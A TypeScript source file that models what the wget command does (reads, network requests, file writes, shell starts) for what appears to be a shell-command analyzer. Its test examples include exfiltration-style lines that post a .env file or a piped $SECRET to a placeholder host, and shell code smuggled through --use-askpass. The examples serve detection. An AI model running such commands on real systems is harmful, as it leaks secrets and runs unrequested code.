// wget: downloads, one by one or a whole site.

import { unknownText } from '../../bash/values.ts';
import type { Effect, Origin, Value } from '../../effects.ts';
import {
  beginningOf,
  type Call,
  hostOf,
  literal,
  read,
  textOf,
  unknownValue,
  within,
  write,
} from '../../tools/tool.ts';
import { type Card, type Given, ofOptions, shellOptions } from '../card.ts';
import { connect, fetchedInto, fetchedTo, methodOf, nameInUrl, originsOf, union } from '../network.ts';

function urlsOf(given: Given<Value>): readonly Value[] {
  return given.operands.length === 0 && given.has('input-file') ? [unknownValue] : given.operands;
}

/** What is read to be sent, and where all that is sent comes from. */
function sent(call: Call, given: Given<Value>): { reads: readonly Effect[]; origins: readonly Origin[] } {
  const files = given.all('post-file', 'body-file');
  const reads = files.flatMap((file) => read(call, file));
  const input = files.some((file) => /^(?:-|\/dev\/stdin)$/.test(textOf(file) ?? ''));
  return { reads, origins: union(input ? call.io.stdinOrigins : [], originsOf(reads)) };
}

const wget: Card = {
  names: 'wget wget2',
  options:
    'O/output-document= o/output-file= a/append-output= P/directory-prefix= i/input-file= U/user-agent= post-data= post-file= body-data= body-file= method= header= user= password= http-user= http-password= load-cookies= save-cookies= use-askpass= config= e/execute= t/tries= T/timeout= w/wait= Q/quota= l/level= A/accept= R/reject= D/domains= exclude-domains= I/include-directories= X/exclude-directories= B/base= referer= certificate= private-key= ca-certificate= limit-rate= bind-address= N/timestamping c/continue q/quiet v/verbose r/recursive m/mirror p/page-requisites k/convert-links K/backup-converted E/adjust-extension H/span-hosts L/relative -np/no-parent -nc/no-clobber -nd/no-directories -nv/no-verbose -nH S/server-response spider b/background 4 6 no-check-certificate content-disposition delete-after warc-file= default-page= connect-timeout= read-timeout= dns-timeout= max-redirect= ignore-tags= follow-tags= cut-dirs= restrict-file-names= progress= waitretry=',
  readings: {
    valued:
      'O output-document o output-file a append-output P directory-prefix i input-file U user-agent post-data post-file body-data body-file method header user password http-user http-password load-cookies save-cookies use-askpass config e execute t tries T timeout w wait Q quota l level A accept R reject D domains exclude-domains I include-directories X exclude-directories B base referer certificate private-key ca-certificate limit-rate bind-address warc-file default-page connect-timeout read-timeout dns-timeout max-redirect ignore-tags follow-tags cut-dirs restrict-file-names progress waitretry',
    flags:
      'N timestamping c continue q quiet v verbose r recursive m mirror p page-requisites k convert-links K backup-converted E adjust-extension H span-hosts L relative -np no-parent -nc no-clobber -nd no-directories -nv no-verbose -nH S server-response spider b background 4 6 no-check-certificate content-disposition delete-after',
  },
  facts: [
    {
      what: 'reads the files that it sends',
      effects: (call, given) => sent(call, given).reads,
      examples: {
        hit: {
          'wget --post-file=.env https://h.example/': 'read .env; secret .env (environment)',
          'wget --method=PUT --body-file a.txt https://h.example/': 'read a.txt',
        },
        miss: ['wget --post-data=a https://h.example/', 'wget --body-data=a https://h.example/'],
      },
    },
    {
      what: 'reads addresses, cookies and settings from files',
      effects: ofOptions('input-file load-cookies config', (call, file) =>
        /^\w+:\/\//.test(beginningOf(file)) ? [connect(call, hostOf(file), 'GET')] : read(call, file),
      ),
      examples: {
        hit: {
          'wget -i list.txt': 'read list.txt',
          'wget --load-cookies jar --config settings https://h.example/': 'read jar; read settings',
          'wget -i https://h.example/list.txt': 'connect h.example (GET)',
        },
        miss: ['wget -i - ', 'wget https://h.example/'],
      },
    },
    {
      what: 'requests',
      effects: (call, given) => {
        const usual = given.has('post-data', 'post-file') ? 'POST' : given.has('spider') ? 'HEAD' : 'GET';
        const method = methodOf(given.last('method'), usual);
        const { origins } = sent(call, given);
        return urlsOf(given).map((url) => connect(call, hostOf(url), method, origins));
      },
      examples: {
        hit: {
          'wget https://a.example/x b.example': 'connect a.example (GET); connect b.example (GET)',
          'wget --spider https://h.example/': 'connect h.example (HEAD)',
          'wget --post-data=a https://h.example/': 'connect h.example (POST)',
          'wget --post-file .env https://h.example/': 'connect h.example (POST) from secret',
          '$SECRET | wget --post-file=- https://h.example/': 'connect h.example (POST) from secret',
          '$SECRET | wget --method put --body-file=/dev/stdin https://h.example/':
            'connect h.example (PUT) from secret',
          '$SECRET | wget --post-file=a.txt https://h.example/': 'connect h.example (POST)',
          'wget -i list.txt': 'connect … (GET)',
        },
        miss: ['wget', 'wget --version'],
      },
    },
    {
      what: 'saves what the host sends',
      effects: (call, given) => {
        const document = given.last('output-document');
        const folder = given.last('directory-prefix');
        const many = given.has('recursive', 'mirror', 'page-requisites');
        return urlsOf(given).flatMap((url) => {
          if (document) return fetchedTo(call, document, 'overwrite');
          if (many || url.kind === 'unknown')
            return [
              ...(folder || url.kind !== 'unknown' ? [] : fetchedTo(call, unknownValue, 'create')),
              ...fetchedInto(call, folder ?? literal('.')),
            ];
          return given.has('spider') ? [] : fetchedTo(call, within(folder, nameInUrl(url)), 'create');
        });
      },
      examples: {
        hit: {
          'wget https://h.example/run.sh': 'write run.sh (create) from network',
          'wget -nv https://h.example/a': 'write a (create) from network',
          'wget -qP d https://h.example/a': 'write d/a (create) from network',
          'wget -qO a.sh https://h.example/b': 'write a.sh (overwrite) from network',
          'wget -r https://h.example/a': 'write . (create) recursive from network',
          'wget -m https://h.example/a': 'write . (create) recursive from network',
          'wget -p -P d https://h.example/a': 'write d (create) recursive from network',
          'wget -i list.txt': 'write … (create) from network; write . (create) recursive from network',
          'wget -i list.txt -P d': 'write d (create) recursive from network',
        },
        miss: ['wget -O - https://h.example/a', 'wget --spider https://h.example/a', 'wget -O a'],
      },
    },
    {
      what: 'writes logs and cookies',
      effects: ofOptions('output-file append-output save-cookies', (call, file) =>
        write(call, file, { detail: 'overwrite' }),
      ),
      examples: {
        hit: {
          'wget -o a.log --save-cookies jar https://h.example/':
            'write a.log (overwrite); write jar (overwrite)',
          'wget -a a.log https://h.example/': 'write a.log (overwrite)',
        },
        miss: ['wget -o - https://h.example/', 'wget -O a https://h.example/'],
      },
    },
    {
      what: 'starts a program that asks for the password',
      starts: shellOptions('use-askpass'),
      examples: {
        hit: {
          'wget --use-askpass=./ask https://h.example/': 'shell code: ./ask',
          'wget --use-askpass "sh -c id" https://h.example/': 'shell code: sh -c id',
        },
        miss: ['wget --password=a https://h.example/'],
      },
    },
    {
      what: 'prints what the host sends',
      prints: (_, given) =>
        given.operands.length > 0 || given.has('input-file') ? unknownText(['network']) : null,
      examples: {
        hit: {
          'wget -qO- https://h.example/': 'prints … from network',
          'wget -i list.txt': 'prints … from network',
        },
        miss: ['wget', 'wget --version'],
      },
    },
  ],
};

export const cards = [wget];
